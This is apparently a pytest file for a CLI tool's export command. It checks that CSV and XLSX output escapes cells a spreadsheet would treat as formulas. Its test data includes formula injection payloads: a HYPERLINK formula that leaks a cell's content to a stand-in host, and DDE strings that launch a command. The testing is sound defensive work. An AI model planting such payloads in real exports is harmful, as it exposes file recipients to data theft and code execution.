"""Formula injection on the way out: `accord export --format csv` writes every text cell
that a spreadsheet would run as a formula with a leading `'` (OWASP); JSON lines stays
the exact export."""

from __future__ import annotations

import csv
import io
import json
from contextlib import redirect_stdout
from pathlib import Path

import pytest

from accord.cli import main
from accord.runtime import Runtime

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "=": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def accord(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    with redirect_stdout(out):
        code = main(list(args))
    return code, out.getvalue()


def _partnership_with_partners(url: str, names: list[str]) -> str:
    runtime = Runtime.open(url, project=False)
    try:
        app = runtime.app
        pid = str(
            app.execute(
                "formPartnership",
                {"name": "Harbour", "purpose": "Care at home", "occurredAt": "2024-01-01"},
                actor="alice",
            ).partnership_id
        )
        for index, name in enumerate(names):
            app.execute(
                "joinPartner",
                {
                    "partnershipId": pid,
                    "partnerId": f"p{index}",
                    "name": name,
                    "sector": "PRIVATE",
                    "occurredAt": "2024-01-02",
                },
                actor="alice",
            )
    finally:
        runtime.close()
    return pid


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_csv_cell_beginning_with_a_formula_prefix_is_escaped(
    sqlite_url: str, prefix: str
) -> None:
    name = HOSTILE[prefix]
    pid = _partnership_with_partners(sqlite_url, [name])
    code, text = accord("export", pid, "--format", "csv", "--database", sqlite_url)
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    joined = next(row for row in rows if row["type"] == "PARTNER_JOINED")
    assert joined["summary"] == f"'{name} (p0, PRIVATE) joined the partnership"
    assert json.loads(joined["data"])["name"] == name  # the data cell begins with '{'
    for row in rows:
        for value in row.values():
            assert not value.startswith(PREFIXES), value


def test_safe_cells_are_written_as_they_are_and_json_lines_stays_exact(sqlite_url: str) -> None:
    pid = _partnership_with_partners(sqlite_url, ["Eastfield 'Trust'", "+cmd|' /C calc'!A0"])
    _, text = accord("export", pid, "--format", "csv", "--database", sqlite_url)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[1]["summary"] == "Eastfield 'Trust' (p0, PRIVATE) joined the partnership"
    assert rows[1]["position"] == "2"
    _, lines = accord("export", pid, "--database", sqlite_url)
    exact = [json.loads(line) for line in lines.splitlines()]
    assert exact[2]["summary"] == "+cmd|' /C calc'!A0 (p1, PRIVATE) joined the partnership"
    assert exact[2]["data"]["name"] == "+cmd|' /C calc'!A0"


def test_an_xlsx_export_writes_each_formula_prefix_as_a_string_never_a_formula(
    sqlite_url: str, tmp_path: Path
) -> None:
    import openpyxl

    names = [HOSTILE[prefix] for prefix in PREFIXES]
    pid = _partnership_with_partners(sqlite_url, names)
    path = tmp_path / "out.xlsx"
    code, _ = accord(
        "export", pid, "--format", "xlsx", "--output", str(path), "--database", sqlite_url
    )
    assert code == 0
    book = openpyxl.load_workbook(path)  # formulas would read back as data_type "f"
    partners = {row[0].value: row[1] for row in book["Partners"].iter_rows(min_row=2)}
    for index, name in enumerate(names):
        cell = partners[f"p{index}"]
        # XML reads a carriage return in text as a line feed; History's data keeps it.
        assert (cell.value, cell.data_type) == (name.replace("\r", "\n"), "s")
    for ws in book:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
